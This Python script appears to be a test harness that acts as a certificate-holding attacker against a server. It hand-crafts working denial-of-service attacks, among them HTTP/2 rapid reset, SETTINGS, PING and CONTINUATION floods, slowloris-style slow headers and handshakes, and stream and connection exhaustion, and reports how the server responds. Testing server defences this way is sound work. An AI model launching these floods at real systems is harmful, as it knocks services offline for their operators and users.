"""An attacker with a good certificate: `attacker.py KIND HOST CERTIFICATE` prints what became of it, as JSON.

Frames are written by hand, since no honest client library sends them. `answer` is the status of HTTP/1.1, or how HTTP/2
ended: the error code of GOAWAY, "closed", or "still open".
"""

import json
import socket
import ssl
import struct
import sys
import time

kind, host, certificate = sys.argv[1:4]
PORT = 15000
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4


def connect(protocol, window=0):
    """A connection with the good certificate. ``window``: bytes of its receive buffer; 0 is what the kernel gives."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.load_verify_locations("/certificates/ca.pem")
    context.load_cert_chain("/certificates/" + certificate)
    context.set_alpn_protocols([protocol])
    raw = socket.socket()
    if window:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
    raw.settimeout(20)
    raw.connect((host, PORT))
    tls = context.wrap_socket(raw, server_hostname=host)
    if protocol == "h2":
        tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
    return tls


def frame(kind, flags, stream, body):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def text(name, value):
    """One header, literal, without indexing and without Huffman coding (lengths below 127)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(stream, extra=b"", flags=END_STREAM | END_HEADERS, path=b"/"):
    block = text(b":method", b"GET") + text(b":scheme", b"https") + text(b":path", path)
    return frame(HEADERS, flags, stream, block + text(b":authority", host.encode()) + extra)


def drain(tls, seconds):
    """Read until it ends; say how."""
    tls.settimeout(seconds)
    data, end = b"", time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            part = tls.recv(65536)
            if not part:
                break
            data += part
        else:
            return "still open"
    except TimeoutError:
        return "still open"
    except OSError:
        pass
    while len(data) >= 9:
        length = int.from_bytes(data[:3], "big")
        if data[3] == GOAWAY:
            return f"GOAWAY {int.from_bytes(data[13:17], 'big')}"
        data = data[9 + length :]
    return "closed"


def flood(parts, seconds=10):
    """Send ``parts`` until the peer has enough; say how many it took, and how it ended.

    Answers pile up at the peer: with the kernel's own buffers, some megabytes of them would be out of its sight.
    """
    tls = connect("h2", window=4096)
    sent = 0
    try:
        for part in parts:
            tls.sendall(part)
            sent += 1
    except OSError:
        pass
    return {"sent": sent, "answer": drain(tls, seconds)}


def http1(raw, seconds=20):
    tls = connect("http/1.1")
    began = time.monotonic()
    answer = b""
    try:
        tls.sendall(raw)
        tls.settimeout(seconds)
        answer = tls.recv(200)
    except OSError as err:
        return {"answer": type(err).__name__, "seconds": time.monotonic() - began}
    return {
        "answer": answer.split(b" ")[1].decode() if b" " in answer else "closed",
        "seconds": time.monotonic() - began,
    }


def hold(make, number):
    """Open connections and keep them; count those that are refused."""
    held, refused = [], 0
    for _ in range(number):
        try:
            held.append(make())
        except OSError:
            refused += 1
    time.sleep(3)
    alive = 0
    for one in held:
        one.setblocking(False)
        try:
            alive += one.recv(1) != b""
        except (BlockingIOError, ssl.SSLWantReadError):
            alive += 1
        except OSError:
            pass
    return {"tried": number, "alive": alive, "refused": refused}


def slow_handshake():
    raw = socket.create_connection((host, PORT), timeout=20)
    raw.sendall(b"\x16\x03\x01\x02\x00\x01")  # the beginning of a ClientHello
    began = time.monotonic()
    try:
        ended = raw.recv(10) == b""
    except ConnectionResetError:
        ended = True
    return {"answer": "closed" if ended else "open", "seconds": time.monotonic() - began}


def many_streams(number):
    """Requests that take their time, on one connection; count those that are refused at once (RST_STREAM 7)."""
    tls = connect("h2")
    for one in range(number):
        tls.sendall(request(2 * one + 1, path=b"/slow?8"))
    tls.settimeout(1)
    data, end = b"", time.monotonic() + 5
    while time.monotonic() < end:
        try:
            data += tls.recv(65536)
        except TimeoutError:
            continue
    refused = 0
    while len(data) >= 9:
        length = int.from_bytes(data[:3], "big")
        refused += data[3] == RST and int.from_bytes(data[9:13], "big") == 7
        data = data[9 + length :]
    return {"tried": number, "refused": refused, "open": number - refused}


HEAD = f"GET / HTTP/1.1\r\nHost: {host}\r\n"
KINDS = {
    "nothing": lambda: http1(HEAD.encode() + b"\r\n"),
    "many headers": lambda: http1((HEAD + "".join(f"x{n}: 1\r\n" for n in range(150)) + "\r\n").encode()),
    "large headers": lambda: http1((HEAD + "x: " + "a" * 100_000 + "\r\n\r\n").encode()),
    "slow headers": lambda: http1(HEAD.encode()),
    "slow handshake": slow_handshake,
    "rapid reset": lambda: flood(request(n) + frame(RST, 0, n, struct.pack(">I", 8)) for n in range(1, 40_001, 2)),
    "settings flood": lambda: flood(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) for _ in range(200_000)),
    "ping flood": lambda: flood(frame(PING, 0, 0, b"12345678") for _ in range(200_000)),
    "empty frames": lambda: flood([request(1, flags=END_HEADERS), *(frame(DATA, 0, 1, b"") for _ in range(50_000))]),
    "priority flood": lambda: flood(
        [request(1, flags=END_HEADERS), *(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") for _ in range(50_000))]
    ),
    "window flood": lambda: flood(
        [request(1, flags=END_HEADERS), *(frame(WINDOW, 0, 1, struct.pack(">I", 1)) for _ in range(50_000))]
    ),
    "endless headers": lambda: flood(
        [request(1, flags=0), *(frame(CONTINUATION, 0, 1, text(b"x", b"a" * 100) * 100) for _ in range(5_000))]
    ),
    "many streams": lambda: many_streams(2000),
    "many connections": lambda: hold(lambda: socket.create_connection((host, PORT), timeout=5), 1800),
}
json.dump(KINDS[kind](), sys.stdout)
